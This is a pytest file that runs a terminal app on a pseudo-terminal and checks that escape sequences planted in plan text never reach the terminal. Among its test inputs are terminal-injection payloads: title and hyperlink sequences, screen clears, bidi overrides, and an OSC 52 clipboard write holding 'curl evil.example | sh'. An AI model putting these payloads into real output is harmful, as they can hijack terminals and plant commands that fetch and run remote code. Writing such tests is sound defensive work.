"""The real app in a pseudo-terminal: plan text must never become a terminal command.

`python -m tui` runs on a pty of 80x24 (TERM=xterm-256color) with a plan whose text holds
escape sequences (OSC title, OSC 52 clipboard, OSC 8 hyperlink, DCS, CSI, SGR, C1 controls),
BEL and bidirectional overrides. F3 and F4 show the plan list, a person's form and Rehearse;
ctrl+q quits. Every byte the app writes is kept and searched for the hostile payloads. The
app writes escape sequences of its own, so the checks look for the plan's payloads, not for
ESC in general.
"""

import base64
import json
import os
import pty
import re
import select
import signal
import struct
import subprocess
import sys
import termios
import time
from fcntl import ioctl
from pathlib import Path

import pytest
from hostile import TERMINAL_PAYLOADS

from tui.cli import main as kindred
from tui.core.store import Store

PROJECT = Path(__file__).resolve().parents[2]
ROWS, COLUMNS = 24, 80
F3, F4, DOWN, CTRL_Q = b"\x1bOR", b"\x1bOS", b"\x1b[B", b"\x11"
TOTAL_SECONDS = 30.0

NAME = "\x1b]0;PWNED\x07Anna"
PAYLOAD_TEXTS = [
    "\x1b]0;owned\x07",
    "\x1b]2;owned\x1b\\",
    "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh").decode() + "\x07",
    "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1bP1$qm\x1b\\",
    "\x1b[2J\x1b[HCleared",
    "\x1b[31mred\x1b[0m",
    "\x9b2Jc1",
    "\x9d0;owned\x9c",
    "\u202eexe.txt",
    "\u2066isolated\u2069",
    "ring\x07\x07",
]
# One payload a line, so none is wrapped in two, in the statement and the bottom line.
STATEMENT = "\n".join(PAYLOAD_TEXTS)
PAYLOADS = {**TERMINAL_PAYLOADS, "OSC 0 title from the name": b"\x1b]0;PWNED"}
SURROGATE_NAME = json.loads('"Ben \\ud800 lone"')


def person(number: int, name: str) -> dict:
    return {
        "id": f"p{number}",
        "name": name,
        "relationship": PAYLOAD_TEXTS[2],
        "role": "member",
        "order": number,
        "target_seconds": 120,
        "read_by": PAYLOAD_TEXTS[3],
        "statement": STATEMENT,
        "bottom_line": STATEMENT,
    }


def raw_plan(path: Path) -> None:
    """Written straight into the plan file: nothing cleaned on the way in."""
    store = Store(path)
    store.insert("people", person(1, NAME))
    store.insert("treatments", {"id": "t1", "name": PAYLOAD_TEXTS[5], "contact": NAME})
    store.insert("objections", {"id": "o1", "objection": PAYLOAD_TEXTS[9], "answer": STATEMENT})
    store.upsert("plan", "plan", {"title": NAME, "country": "US"})  # nothing asks which
    store.upsert("specialist", "specialist", {"name": PAYLOAD_TEXTS[0]})


def imported_plan(path: Path, folder: Path, name: str = NAME) -> None:
    """Loaded with `kindred import` from a JSON file."""
    document = {
        "format": "kindred-plan",
        "version": 1,
        "plan": {
            "title": name,
            "people": [{k: v for k, v in person(1, name).items() if k != "id"}],
            "treatments": [{"name": PAYLOAD_TEXTS[5], "contact": name}],
            "objections": [{"objection": PAYLOAD_TEXTS[9], "answer": STATEMENT}],
            "specialist": {"name": PAYLOAD_TEXTS[0]},
        },
    }
    source = folder / "plan-to-import.json"
    source.write_text(json.dumps(document), encoding="utf-8")
    assert kindred(["import", str(source), "--data", str(path)]) == 0


def read_available(fd: int, output: bytearray, seconds: float) -> bool:
    """Read what the app writes for up to `seconds`; False once the terminal is closed."""
    deadline = time.monotonic() + seconds
    while (left := deadline - time.monotonic()) > 0:
        ready, _, _ = select.select([fd], [], [], min(left, 0.1))
        if not ready:
            continue
        try:
            chunk = os.read(fd, 65536)
        except OSError:  # EIO: the app has closed the terminal
            return False
        if not chunk:
            return False
        output.extend(chunk)
    return True


def read_until(fd: int, output: bytearray, wanted: bytes, seconds: float) -> None:
    """Read until `wanted` has been written (or time runs out), then until the app idles."""
    deadline = time.monotonic() + seconds
    while wanted not in output and time.monotonic() < deadline:
        if not read_available(fd, output, 0.2):
            return
    quiet_since = len(output)
    while time.monotonic() < deadline:
        read_available(fd, output, 0.4)
        if len(output) == quiet_since:
            return
        quiet_since = len(output)


def run_in_terminal(
    data: Path, home: Path, argv: list[str] | None = None
) -> tuple[bytes, int | None]:
    """The app on a pty: F3, down to the person, F4, then ctrl+q. All bytes it wrote."""
    master, slave = pty.openpty()
    ioctl(slave, termios.TIOCSWINSZ, struct.pack("HHHH", ROWS, COLUMNS, 0, 0))
    env = {
        key: value
        for key, value in os.environ.items()
        if not key.startswith(("TEXTUAL", "PYTEST")) and key not in ("NO_COLOR", "COLUMNS", "LINES")
    }
    env.update(
        TERM="xterm-256color",
        KINDRED_DATA=str(data),
        HOME=str(home),
        XDG_DATA_HOME=str(home / "data"),
        XDG_CONFIG_HOME=str(home / "config"),
        XDG_CACHE_HOME=str(home / "cache"),
        LANG="C.UTF-8",
        LC_ALL="C.UTF-8",
    )
    process = subprocess.Popen(
        argv or [sys.executable, "-m", "tui", "--data", str(data)],
        stdin=slave,
        stdout=slave,
        stderr=slave,
        cwd=PROJECT,
        env=env,
        start_new_session=True,
        close_fds=True,
    )
    os.close(slave)
    output = bytearray()
    started = time.monotonic()
    try:
        read_until(master, output, b"Rehearse", 15.0)
        for key in (F3, DOWN, DOWN, F4):
            os.write(master, key)
            read_until(master, output, b"", 3.0)
        os.write(master, CTRL_Q)
        while process.poll() is None and time.monotonic() - started < TOTAL_SECONDS:
            if not read_available(master, output, 0.2):
                break
        process.wait(timeout=max(0.1, TOTAL_SECONDS - (time.monotonic() - started)))
    except subprocess.TimeoutExpired:
        pass
    finally:
        if process.poll() is None:
            os.killpg(process.pid, signal.SIGKILL)
            process.wait(timeout=5)
        os.close(master)
    return bytes(output), process.returncode


_runs: dict[str, tuple[bytes, int | None]] = {}


@pytest.fixture(scope="module")
def terminal_output(tmp_path_factory):
    """The bytes written by one run of the app for each kind of plan (run once each)."""

    def get(kind: str) -> tuple[bytes, int | None]:
        if kind not in _runs:
            folder = tmp_path_factory.mktemp(kind)
            folder.chmod(0o700)
            data = folder / "plan" / "kindred.json"
            data.parent.mkdir(mode=0o700)
            if kind == "raw":
                raw_plan(data)
            elif kind == "imported":
                imported_plan(data, folder)
            else:
                imported_plan(data, folder, name=SURROGATE_NAME)
            _runs[kind] = run_in_terminal(data, folder)
        return _runs[kind]

    return get


def shows_the_plan(output: bytes) -> bool:
    """The run got as far as showing the plan's text (so the checks mean something)."""
    return b"Anna" in output or b"Ben" in output


def test_the_checks_see_what_a_program_writes(tmp_path):
    """The harness itself: a program that does write the payloads is caught."""
    script = (
        "import sys, time\n"
        f"sys.stdout.write({NAME!r} + {STATEMENT!r} + ' Rehearse')\n"
        "sys.stdout.flush()\n"
        "time.sleep(0.5)\n"
    )
    output, status = run_in_terminal(
        tmp_path / "unused.json", tmp_path, [sys.executable, "-c", script]
    )
    assert status == 0
    caught = sorted(name for name, payload in PAYLOADS.items() if payload in output)
    assert caught == sorted(PAYLOADS)
    assert _OSC_TITLE.findall(output)


@pytest.mark.parametrize("kind", ["raw", "imported"])
def test_the_app_runs_and_quits_cleanly(terminal_output, kind):
    output, status = terminal_output(kind)
    assert shows_the_plan(output), output[-400:]
    assert b"Cleared" in output and b"exe.txt" in output  # the statement was on screen
    assert status == 0
    assert b"Traceback" not in output and b"unexpected problem" not in output


@pytest.mark.parametrize("kind", ["raw", "imported"])
@pytest.mark.parametrize("payload", sorted(PAYLOADS))
def test_plan_text_never_becomes_a_terminal_command(terminal_output, kind, payload):
    output, _ = terminal_output(kind)
    assert shows_the_plan(output)
    found = PAYLOADS[payload] in output
    assert not found, f"the plan's {payload} reached the terminal"


_OSC_TITLE = re.compile(rb"\x1b\][012];([^\x07\x1b]*)")


@pytest.mark.parametrize("kind", ["raw", "imported"])
def test_the_terminal_title_never_holds_plan_text(terminal_output, kind):
    output, _ = terminal_output(kind)
    titles = _OSC_TITLE.findall(output)
    bad = [title for title in titles if b"PWNED" in title or b"owned" in title or b"Anna" in title]
    assert bad == []


@pytest.mark.parametrize("kind", ["raw", "imported"])
def test_no_bell_comes_from_the_plan(terminal_output, kind):
    """The app's own sequences may end in BEL (OSC ... BEL); no other BEL may be written
    (nothing here rings the rehearsal bell)."""
    output, _ = terminal_output(kind)
    without_osc = re.sub(rb"\x1b\][^\x07\x1b]*(?:\x07|\x1b\\)", b"", output)
    assert b"\x07" not in without_osc


def test_a_lone_surrogate_never_reaches_the_terminal(terminal_output):
    """JSON can hold a lone surrogate, which Textual measures as 1 cell; written out it would
    be 6 characters ('\\ud800', as stderr's backslashreplace writes it), shifting the line."""
    output, status = terminal_output("surrogate")
    assert b"Ben" in output and status == 0
    assert b"\\ud800" not in output and b"\xed\xa0\x80" not in output
